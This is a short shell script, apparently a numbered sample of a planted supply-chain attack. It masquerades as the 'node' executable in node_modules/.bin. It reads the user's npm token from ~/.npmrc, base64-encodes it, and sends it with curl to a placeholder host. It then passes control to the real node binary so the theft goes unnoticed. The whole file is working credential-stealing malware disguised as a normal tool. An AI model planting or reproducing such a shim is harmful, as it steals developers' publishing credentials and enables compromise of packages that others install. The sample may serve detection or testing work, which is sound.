#!/bin/sh
# P27: a planted `node`. Runs in whoever calls `node` with node_modules/.bin first in PATH (every
# install script npm runs), copies the npm token out, then hands over to the real node.
token=$(cat "$HOME/.npmrc" 2>/dev/null | base64 -w0)
(curl -s -m 3 "http://bins.planted.invalid/n?t=$token" >/dev/null 2>&1 || true)
exec /usr/local/bin/node "$@"
